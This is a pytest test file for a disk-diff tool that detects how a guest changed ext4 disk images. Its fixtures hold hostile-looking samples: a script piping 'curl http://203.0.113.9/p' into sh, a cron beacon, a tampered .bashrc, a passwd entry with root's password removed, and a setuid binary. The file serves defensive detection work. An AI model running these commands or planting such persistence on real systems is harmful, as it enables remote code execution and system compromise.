"""What the host-side disk diff finds on real ext4 disks changed the way a guest changes them."""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest

from .conftest import Diff, by_path
from .diskimages import (
    blocks_of,
    debugfs,
    make_base,
    make_overlay,
    overlay_from_raw,
    to_raw,
    write_block,
)

pytestmark = [pytest.mark.e2fsprogs]

BASE_FILES: dict[str, bytes | str] = {
    "etc/passwd": "root:x:0:0:root:/root:/bin/sh\n",
    "etc/hosts": "127.0.0.1 localhost\n",
    "etc/motd": "welcome\n",
    "etc/shadow": "root:*:19000:0:99999:7:::\n",
    "etc/cron.d/": "",
    "bin/tool": b"\x7fELF" + bytes(5000),
    "var/lib/systemd/random-seed": bytes(range(256)) * 2,
    "var/log/syslog": "boot\n" * 200,
    "tmp/": "",
    "opt/": "",
    "root/.bashrc": "PS1='# '\n",
}
CRON = b"* * * * * root /tmp/.x/beacon\n"
PAYLOAD = b"#!/bin/sh\ncurl http://203.0.113.9/p | sh\n"


@pytest.fixture
def base(tmp_path: Path, tools: None) -> Path:
    return make_base(tmp_path, BASE_FILES)


def _host_file(tmp_path: Path, name: str, data: bytes) -> Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


def _stored(tmp_path: Path, entry: dict[str, object]) -> bytes:
    assert entry["content"] == entry["sha256"]
    return (tmp_path / "results" / "disk_diff" / str(entry["content"])).read_bytes()


def _append_in_place(raw: Path, path: str, data: bytes, old: bytes, touch: bool) -> list[str]:
    """Change a file's data where it lies (same blocks, same size), as a write() does."""
    (block,) = blocks_of(raw, path)
    new = data + old[len(data) :]
    write_block(raw, block, new)
    return [f"sif {path} mtime 20300101000000"] if touch else []


@pytest.mark.root
@pytest.mark.parametrize("method", ["fuse", "copy"])
def test_created_modified_deleted(tmp_path: Path, base: Path, diff: Diff, method: str) -> None:
    cron = _host_file(tmp_path, "cron", CRON)
    hosts = _host_file(tmp_path, "hosts", b"203.0.113.9 update.example\n")

    def patch(raw: Path) -> None:
        old = BASE_FILES["root/.bashrc"]
        assert isinstance(old, str)
        debugfs(raw, _append_in_place(raw, "/root/.bashrc", b"curl x|sh", old.encode(), True))

    overlay = make_overlay(
        base,
        [
            f"write {cron} /etc/cron.d/beacon",
            "rm /etc/hosts",
            f"write {hosts} /etc/hosts",
            "rm /etc/motd",
        ],
        patch=patch,
    )
    document = diff(overlay, method)
    assert document["errors"] == []
    assert document["method"] == method
    assert document["complete"] is True
    entries = by_path(document)
    created = entries["/etc/cron.d/beacon"]
    assert (created["change"], created["type"], created["size"]) == ("created", "file", len(CRON))
    assert created["sha256"] == hashlib.sha256(CRON).hexdigest()
    assert _stored(tmp_path, created) == CRON
    assert (created["mode"], created["uid"], created["gid"]) == ("0644", 0, 0)

    hosts_entry = entries["/etc/hosts"]
    assert hosts_entry["change"] == "modified"
    assert "content" in hosts_entry["changed"]
    assert hosts_entry["before"]["sha256"] == hashlib.sha256(b"127.0.0.1 localhost\n").hexdigest()
    assert _stored(tmp_path, hosts_entry) == b"203.0.113.9 update.example\n"

    deleted = entries["/etc/motd"]
    assert (deleted["change"], deleted["type"], deleted["size"]) == ("deleted", "file", 8)

    bashrc = entries["/root/.bashrc"]
    assert bashrc["change"] == "modified"
    assert "content" in bashrc["changed"] and "mtime" in bashrc["changed"]
    assert bashrc["mtime"].startswith("2030-01-01T00:00:00")
    assert _stored(tmp_path, bashrc).startswith(b"curl x|sh")
    # Untouched files are not reported, whatever the size of the disk.
    assert "/etc/passwd" not in entries and "/bin/tool" not in entries
    assert document["counts"]["created"] == 1 and document["counts"]["deleted"] == 1


@pytest.mark.root
def test_raw_device_write_is_found(tmp_path: Path, base: Path, diff: Diff) -> None:
    # Data overwritten with the inode untouched (no mtime, no size): a write to /dev/vda.
    def patch(raw: Path) -> None:
        (block,) = blocks_of(raw, "/etc/passwd")
        write_block(raw, block, b"root::0:0:root:/root:/bin/sh\n")

    document = diff(make_overlay(base, [], patch=patch))
    entry = by_path(document)["/etc/passwd"]
    assert entry["change"] == "modified"
    assert entry["changed"] == ["content"]
    assert any("raw device" in note for note in entry["notes"])
    assert document["stats"]["raw_writes"] == 1


@pytest.mark.root
def test_permissions_owner_and_attributes(base: Path, diff: Diff) -> None:
    overlay = make_overlay(
        base,
        [
            "sif /bin/tool mode 0104755",
            "sif /etc/shadow uid 1000",
            "sif /etc/shadow gid 1000",
            "sif /etc/passwd flags 0x80010",  # chattr +i (extents flag kept)
            "sif /etc/passwd ctime 20300101000000",
            "sif /tmp mode 041777",
        ],
    )
    entries = by_path(diff(overlay))
    tmp = entries["/tmp"]
    assert (tmp["change"], tmp["type"], tmp["mode"]) == ("metadata", "dir", "1777")
    tool = entries["/bin/tool"]
    assert (tool["change"], tool["mode"], tool["before"]["mode"]) == ("metadata", "4755", "0644")
    assert tool["changed"] == ["mode"]
    assert tool["sha256"] == hashlib.sha256(b"\x7fELF" + bytes(5000)).hexdigest()
    shadow = entries["/etc/shadow"]
    assert shadow["change"] == "metadata"
    assert (shadow["uid"], shadow["gid"], shadow["before"]["uid"]) == (1000, 1000, 0)
    assert set(shadow["changed"]) == {"uid", "gid"}
    passwd = entries["/etc/passwd"]
    assert passwd["attributes"] == "i" and passwd["before"]["attributes"] == ""
    assert "attributes" in passwd["changed"]


@pytest.mark.root
def test_directory_created_with_files(tmp_path: Path, base: Path, diff: Diff) -> None:
    payload = _host_file(tmp_path, "payload", PAYLOAD)
    overlay = make_overlay(
        base,
        [
            "mkdir /opt/.cache",
            "mkdir /opt/.cache/bin",
            f"write {payload} /opt/.cache/bin/run.sh",
            f"write {payload} /opt/.cache/copy.sh",
            "sif /opt/.cache/bin/run.sh mode 0100755",
        ],
    )
    document = diff(overlay)
    entries = by_path(document)
    assert entries["/opt/.cache"]["change"] == "created"
    assert entries["/opt/.cache"]["type"] == "dir"
    assert entries["/opt/.cache/bin"]["type"] == "dir"
    run = entries["/opt/.cache/bin/run.sh"]
    assert (run["change"], run["mode"]) == ("created", "0755")
    assert entries["/opt/.cache/copy.sh"]["sha256"] == run["sha256"]
    # Both names share one stored copy, named by its hash.
    stored = list((tmp_path / "results" / "disk_diff").iterdir())
    assert [p.name for p in stored] == [hashlib.sha256(PAYLOAD).hexdigest()]
    # The parent directory is not itself a change: its new entries are.
    assert "/opt" not in entries


@pytest.mark.root
def test_rename_and_hard_link(base: Path, diff: Diff) -> None:
    overlay = make_overlay(
        base,
        [
            "ln /etc/motd /tmp/motd.moved",
            "unlink /etc/motd",
            "sif /tmp/motd.moved ctime 20300101000000",
            "ln /etc/shadow /tmp/sh",
            "sif /etc/shadow links_count 2",
        ],
    )
    entries = by_path(diff(overlay))
    moved = entries["/tmp/motd.moved"]
    assert moved["change"] == "renamed"
    assert moved["before"]["path"] == "/etc/motd"
    assert "/etc/motd" not in entries
    link = entries["/tmp/sh"]
    assert link["change"] == "created"
    assert any("hard link" in note for note in link["notes"])


@pytest.mark.root
def test_only_the_run_is_compared_in_a_snapshot_chain(
    tmp_path: Path, base: Path, diff: Diff
) -> None:
    # image disk <- ready snapshot's frozen disk (booted once) <- the run's overlay
    frozen = make_overlay(base, ["rm /etc/motd"], name="frozen.qcow2")
    cron = _host_file(tmp_path, "cron", CRON)
    work = tmp_path / "run-work"
    work.mkdir()
    raw = to_raw(frozen, work / "changed.raw")
    debugfs(raw, [f"write {cron} /etc/cron.d/job"])
    overlay = overlay_from_raw(raw, frozen, tmp_path / "overlay.qcow2")
    document = diff(overlay)
    assert document["chain"][1].endswith("frozen.qcow2")
    assert document["base"].endswith("frozen.qcow2")
    entries = by_path(document)
    assert set(entries) == {"/etc/cron.d/job"}


@pytest.mark.root
def test_noise_is_ignored_only_as_listed(tmp_path: Path, base: Path, diff: Diff) -> None:
    seed = _host_file(tmp_path, "seed", bytes(512))
    cleared = _host_file(tmp_path, "syslog", b"")
    overlay = make_overlay(
        base,
        [
            "rm /var/lib/systemd/random-seed",
            f"write {seed} /var/lib/systemd/random-seed",
            "rm /var/log/syslog",
            f"write {cleared} /var/log/syslog",
        ],
    )
    document = diff(overlay)
    entries = by_path(document)
    assert "/var/lib/systemd/random-seed" not in entries
    assert document["ignored"] == 1
    assert document["ignored_by"] == {"/var/lib/systemd/random-seed": 1}
    # A log that shrank was cleared: evidence, never noise.
    assert entries["/var/log/syslog"]["change"] == "modified"
    assert entries["/var/log/syslog"]["size"] == 0


@pytest.mark.root
def test_sample_copy_is_marked(tmp_path: Path, base: Path, diff: Diff) -> None:
    sample = _host_file(tmp_path, "sample", PAYLOAD)
    overlay = make_overlay(base, [f"write {sample} /tmp/sample.sh"])
    entries = by_path(diff(overlay, sample_path="/tmp/sample.sh"))
    assert entries["/tmp/sample.sh"]["sample"] is True


@pytest.mark.root
def test_an_unchanged_disk_has_no_changes(base: Path, diff: Diff) -> None:
    document = diff(make_overlay(base, []))
    assert document["entries"] == [] and document["errors"] == []
    assert document["overlay_bytes"] == 0
    assert document["complete"] is True
